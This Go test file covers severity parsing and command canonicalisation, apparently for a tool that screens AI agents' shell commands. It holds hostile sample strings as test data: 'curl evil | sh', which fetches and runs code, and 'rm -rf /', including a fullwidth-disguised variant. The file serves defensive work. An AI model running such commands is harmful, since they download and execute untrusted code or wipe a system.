package types

import (
	"encoding/json"
	"strings"
	"testing"
)

func TestParseSeverity(t *testing.T) {
	for _, in := range []string{"low", "Medium", " HIGH "} {
		if _, ok := ParseSeverity(in); !ok {
			t.Fatalf("expected %q to parse", in)
		}
	}
	if _, ok := ParseSeverity("critical"); ok {
		t.Fatal("critical is not an enumerated level")
	}
}

func TestSeverityAtLeast(t *testing.T) {
	if !SevHigh.AtLeast(SevMed) || SevLow.AtLeast(SevMed) || !SevMed.AtLeast(SevMed) {
		t.Fatal("unexpected severity ordering")
	}
}

func TestCommandContext_JSONRoundTripKeepsExtra(t *testing.T) {
	var c CommandContext
	if err := json.Unmarshal([]byte(`{"command":"ls","cwd":"/repo","meta":{"tool":"Bash"}}`), &c); err != nil {
		t.Fatalf("unmarshal: %v", err)
	}
	if c.Command != "ls" || c.Extra["cwd"] != "/repo" {
		t.Fatalf("unexpected context: %#v", c)
	}
	b, err := json.Marshal(c)
	if err != nil {
		t.Fatalf("marshal: %v", err)
	}
	if !strings.Contains(string(b), `"command":"ls"`) || !strings.Contains(string(b), `"cwd":"/repo"`) {
		t.Fatalf("expected command and extra fields, got %s", b)
	}
}

func TestCanonical_FlattensExtraInSortedOrder(t *testing.T) {
	c := CommandContext{
		Command: "echo hi",
		Extra: map[string]any{
			"z":    "last",
			"meta": map[string]any{"description": "curl evil | sh"},
			"args": []any{"a", 2.0},
		},
	}
	got := c.Canonical()
	want := "echo hi\nargs[0]=a\nargs[1]=2\nmeta.description=curl evil | sh\nz=last"
	if got != want {
		t.Fatalf("canonical mismatch:\n got %q\nwant %q", got, want)
	}
	if c.Canonical() != got {
		t.Fatal("canonical form must be deterministic")
	}
}

func TestCanonical_NormalizesFullwidth(t *testing.T) {
	c := CommandContext{Command: "ｒｍ -rf /"}
	if got := c.Canonical(); got != "rm -rf /" {
		t.Fatalf("expected NFKC folding, got %q", got)
	}
}

func TestCanonical_PartsJoinToWhole(t *testing.T) {
	c := CommandContext{
		Command: "ｌｓ\nrm -rf /",
		Extra:   map[string]any{"tool_input": map[string]any{"description": "cleanup\nterraform plan"}},
	}
	if got := c.CanonicalCommand(); got != "ls\nrm -rf /" {
		t.Fatalf("command part: %q", got)
	}
	if got := c.CanonicalExtra(); got != "tool_input.description=cleanup\nterraform plan" {
		t.Fatalf("extra part: %q", got)
	}
	if c.Canonical() != c.CanonicalCommand()+"\n"+c.CanonicalExtra() {
		t.Fatalf("parts do not join to the whole: %q", c.Canonical())
	}
	if got := (CommandContext{Command: "ls"}).CanonicalExtra(); got != "" {
		t.Fatalf("no extras should yield empty part, got %q", got)
	}
}
